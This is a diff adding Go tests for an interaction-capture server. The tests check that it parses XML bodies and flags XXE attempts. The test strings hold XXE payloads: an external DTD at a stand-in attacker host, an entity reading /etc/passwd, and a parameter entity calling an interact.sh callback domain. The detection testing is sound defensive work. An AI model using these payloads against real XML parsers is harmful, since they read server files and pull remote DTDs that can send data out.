@@ -0,0 +1,65 @@
+package server
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	jsoniter "github.com/json-iterator/go"
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseXMLRequest(t *testing.T) {
+	request := httptest.NewRequest(http.MethodPost, "/", nil)
+	body := `<?xml version="1.0" encoding="ISO-8859-1"?>
+<!DOCTYPE foo SYSTEM "http://attacker.example/root.dtd" [
+  <!ENTITY % dtd SYSTEM 'http://attacker.example/evil.dtd'>
+  <!ENTITY xxe PUBLIC "-//X//EN" "file:///etc/passwd">
+  <!ENTITY name "value">
+  %dtd;
+]>
+<foo>&xxe;</foo>`
+	document := parseXMLRequest(request, []byte(body))
+	require.NotNil(t, document)
+	require.Equal(t, "http://attacker.example/root.dtd", document.externalDTD)
+	require.Equal(t, []XMLEntity{
+		{Name: "dtd", Parameter: true, SystemID: "http://attacker.example/evil.dtd"},
+		{Name: "xxe", SystemID: "file:///etc/passwd"},
+		{Name: "name", Value: "value"},
+	}, document.entities)
+	require.True(t, document.xxe())
+	require.Contains(t, document.marker(), "External entity %dtd: http://attacker.example/evil.dtd\n")
+
+	// internal entities alone are not flagged, bodies without DOCTYPE are ignored
+	document = parseXMLRequest(request, []byte(`<!DOCTYPE foo [<!ENTITY a "b">]><foo>&a;</foo>`))
+	require.NotNil(t, document)
+	require.False(t, document.xxe())
+	require.Nil(t, parseXMLRequest(request, []byte(`<?xml version="1.0"?><foo><!DOCTYPE x></foo>`)))
+	require.Nil(t, parseXMLRequest(request, []byte(`{"a":"<!DOCTYPE x>"}`)))
+}
+
+func TestXMLEcho(t *testing.T) {
+	options := newTestOptions(t, "c59e3crp82ke7bcnedq0")
+	store := options.Storage
+
+	server, err := NewHTTPServer(options)
+	require.Nil(t, err)
+	body := `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % x SYSTEM "http://c59e3crp82ke7bcnedq0cfjqdpeyyyyyy.interact.sh/x.dtd"> %x;]>` +
+		`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>`
+	request := httptest.NewRequest(http.MethodPost, "http://c59e3crp82ke7bcnedq0cfjqdpeyyyyyy.interact.sh/service", strings.NewReader(body))
+	request.Header.Set("Content-Type", "text/xml")
+	recorder := httptest.NewRecorder()
+	server.nontlsserver.Handler.ServeHTTP(recorder, request)
+	require.Equal(t, "text/xml; charset=utf-8", recorder.Header().Get("Content-Type"))
+	require.Contains(t, recorder.Body.String(), `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><data>`)
+
+	item, err := store.GetCacheItem("c59e3crp82ke7bcnedq0")
+	require.Nil(t, err)
+	require.Len(t, item.Data, 1)
+	interaction := &Interaction{}
+	require.Nil(t, jsoniter.Unmarshal([]byte(item.Data[0]), interaction))
+	require.True(t, interaction.XXE)
+	require.Equal(t, []XMLEntity{{Name: "x", Parameter: true, SystemID: "http://c59e3crp82ke7bcnedq0cfjqdpeyyyyyy.interact.sh/x.dtd"}}, interaction.XMLEntities)
+	require.Contains(t, interaction.RawRequest, "[likely XXE attempt]")
+}